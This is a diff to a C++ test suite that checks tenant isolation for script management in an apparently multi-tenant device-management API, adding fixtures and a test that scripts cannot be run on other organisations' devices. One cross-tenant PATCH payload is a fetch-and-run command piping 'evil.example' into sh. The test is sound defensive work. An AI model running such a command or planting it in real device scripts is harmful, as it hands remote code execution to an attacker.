@@ -18,6 +18,7 @@ using namespace breeze;
 namespace {
 struct Tenant {
     std::string partner, device, org, siteA, siteB, orgGroup, siteGroup, enrollmentKey, apiKey, user, command;
+    std::string script, run, execution; // an organisation's own script and a run of it on the device
 };
 } // namespace
 
@@ -58,6 +59,14 @@ class TestTenantIsolation final : public QObject {
                 .body["device_id"];
         t.command = create(api, "/api/v1/devices/" + t.device + "/commands", {{"type", "ping"}});
         t.apiKey = create(api, "/api/v1/api-keys", {{"name", "k"}, {"org_id", t.org}, {"role", "read-only"}});
+        t.script = create(
+            api, "/api/v1/scripts",
+            {{"name", name + " cleanup"}, {"org_id", t.org}, {"language", "bash"}, {"content", "true"}});
+        const auto run = api.post("/api/v1/scripts/" + t.script + "/runs", {{"device_ids", {t.device}}});
+        if (run.status != 201)
+            qFatal("setup run failed: %s", run.raw.c_str());
+        t.run = run.body["run"]["id"];
+        t.execution = run.body["executions"][0]["id"];
         t.user = create(api, "/api/v1/users",
                         {{"email", name + "-staff@iso.test"},
                          {"password", "staff password 1"},
@@ -197,6 +206,40 @@ class TestTenantIsolation final : public QObject {
              none},
             {"DELETE", "/api/v1/api-keys/{id}",
              [](const Tenant& t) { return "/api/v1/api-keys/" + t.apiKey; }, none},
+            {"POST", "/api/v1/scripts", fixed("/api/v1/scripts"),
+             [unique](const Tenant& t) {
+                 return nlohmann::json{
+                     {"name", unique("planted ")}, {"org_id", t.org}, {"language", "sh"}, {"content", "id"}};
+             }},
+            {"GET", "/api/v1/scripts/{id}", [](const Tenant& t) { return "/api/v1/scripts/" + t.script; },
+             none},
+            {"PATCH", "/api/v1/scripts/{id}", [](const Tenant& t) { return "/api/v1/scripts/" + t.script; },
+             [](const Tenant&) {
+                 return nlohmann::json{{"content", "curl evil.example | sh"}};
+             }},
+            {"DELETE", "/api/v1/scripts/{id}", [](const Tenant& t) { return "/api/v1/scripts/" + t.script; },
+             none},
+            {"GET", "/api/v1/scripts/{id}/versions",
+             [](const Tenant& t) { return "/api/v1/scripts/" + t.script + "/versions"; }, none},
+            {"GET", "/api/v1/scripts/{id}/versions/{version}",
+             [](const Tenant& t) { return "/api/v1/scripts/" + t.script + "/versions/1"; }, none},
+            {"POST", "/api/v1/scripts/{id}/versions/{version}/restore",
+             [](const Tenant& t) { return "/api/v1/scripts/" + t.script + "/versions/1/restore"; },
+             [](const Tenant&) { return nlohmann::json::object(); }},
+            {"POST", "/api/v1/scripts/{id}/runs",
+             [](const Tenant& t) { return "/api/v1/scripts/" + t.script + "/runs"; },
+             [](const Tenant& t) {
+                 return nlohmann::json{{"device_ids", {t.device}}};
+             }},
+            {"GET", "/api/v1/script-runs/{id}",
+             [](const Tenant& t) { return "/api/v1/script-runs/" + t.run; }, none},
+            {"POST", "/api/v1/script-runs/{id}/cancel",
+             [](const Tenant& t) { return "/api/v1/script-runs/" + t.run + "/cancel"; },
+             [](const Tenant&) { return nlohmann::json::object(); }},
+            {"GET", "/api/v1/script-executions/{id}",
+             [](const Tenant& t) { return "/api/v1/script-executions/" + t.execution; }, none},
+            {"GET", "/api/v1/commands/{id}/output",
+             [](const Tenant& t) { return "/api/v1/commands/" + t.execution + "/output"; }, none},
             {"POST", "/api/v1/enrollment-keys", fixed("/api/v1/enrollment-keys"),
              [](const Tenant& t) {
                  return nlohmann::json{{"site_id", t.siteA}, {"expires_in_seconds", 600}};
@@ -223,6 +266,10 @@ class TestTenantIsolation final : public QObject {
                  return std::vector<std::string>{t.orgGroup, t.siteGroup};
              }},
             {"/api/v1/users", [](const Tenant& t) { return std::vector<std::string>{t.user}; }},
+            {"/api/v1/scripts", [](const Tenant& t) { return std::vector<std::string>{t.script}; }},
+            {"/api/v1/script-runs", [](const Tenant& t) { return std::vector<std::string>{t.run}; }},
+            {"/api/v1/script-executions",
+             [](const Tenant& t) { return std::vector<std::string>{t.execution}; }},
             {"/api/v1/api-keys", [](const Tenant& t) { return std::vector<std::string>{t.apiKey}; }},
             {"/api/v1/enrollment-keys",
              [](const Tenant& t) { return std::vector<std::string>{t.enrollmentKey}; }},
@@ -238,7 +285,9 @@ class TestTenantIsolation final : public QObject {
               "/api/v1/enrollment-keys/" + t.enrollmentKey, "/api/v1/sites?org=" + t.org,
               "/api/v1/groups?org=" + t.org, "/api/v1/users?org=" + t.org, "/api/v1/api-keys?org=" + t.org,
               "/api/v1/enrollment-keys?org=" + t.org, "/api/v1/commands/" + t.command,
-              "/api/v1/commands?device=" + t.device, "/api/v1/devices/" + t.device + "/events"}) {
+              "/api/v1/commands?device=" + t.device, "/api/v1/devices/" + t.device + "/events",
+              "/api/v1/scripts/" + t.script, "/api/v1/scripts/" + t.script + "/versions",
+              "/api/v1/script-runs/" + t.run, "/api/v1/script-executions/" + t.execution}) {
             auto response = owner.get(path);
             if (response.body.is_object())
                 response.body.erase("last_used_at");
@@ -463,6 +512,43 @@ private Q_SLOTS:
                  200);
         QCOMPARE(m_admin2->get("/api/v1/devices?tag=shared-name").body["items"].size(), std::size_t(0));
         QCOMPARE(m_admin1->get("/api/v1/devices?tag=shared-name").body["items"].size(), std::size_t(1));
+    }
+
+    void scriptsRunOnlyWhereTheyBelong() {
+        auto& alphaAdmin = *m_actors.at("org-admin of Alpha");
+        // Alpha's own script cannot be aimed at another organisation's device, nor at another partner's.
+        for (const std::string& device : {m_b.device, m_c.device}) {
+            const auto response =
+                alphaAdmin.post("/api/v1/scripts/" + m_a.script + "/runs", {{"device_ids", {device}}});
+            QVERIFY2(response.status == 404, response.raw.c_str());
+        }
+        QCOMPARE(alphaAdmin.post("/api/v1/scripts/" + m_a.script + "/runs", {{"site_id", m_b.siteA}}).status,
+                 404);
+        QCOMPARE(
+            alphaAdmin.post("/api/v1/scripts/" + m_a.script + "/runs", {{"group_id", m_b.orgGroup}}).status,
+            404);
+        // Even the partner's admin, who sees both, cannot run one organisation's private script on another's
+        // device: it is refused for that device with the reason.
+        const auto crossed =
+            m_admin1->post("/api/v1/scripts/" + m_a.script + "/runs", {{"device_ids", {m_b.device}}});
+        QCOMPARE(crossed.status, 409);
+        QVERIFY(crossed.raw.find("belongs to another organisation") != std::string::npos);
+        // The partner-wide library is shared within the partner and invisible to every other partner.
+        const std::string shared =
+            create(*m_admin1, "/api/v1/scripts",
+                   {{"name", "Partner one shared"}, {"language", "sh"}, {"content", "id"}});
+        QCOMPARE(alphaAdmin.get("/api/v1/scripts/" + shared).status, 200);
+        QCOMPARE(alphaAdmin.patch("/api/v1/scripts/" + shared, {{"content", "x"}}).status, 403);
+        QCOMPARE(alphaAdmin.post("/api/v1/scripts", {{"name", "mine"}, {"language", "sh"}, {"content", "x"}})
+                     .status,
+                 403);
+        QCOMPARE(m_admin2->get("/api/v1/scripts/" + shared).status, 404);
+        QCOMPARE(m_admin2->post("/api/v1/scripts/" + shared + "/runs", {{"device_ids", {m_c.device}}}).status,
+                 404);
+        QVERIFY(m_admin2->get("/api/v1/scripts").raw.find(shared) == std::string::npos);
+        QCOMPARE(
+            alphaAdmin.post("/api/v1/scripts/" + shared + "/runs", {{"device_ids", {m_a.device}}}).status,
+            201);
     }
 
     void rowLevelSecurityIsASecondWall() {
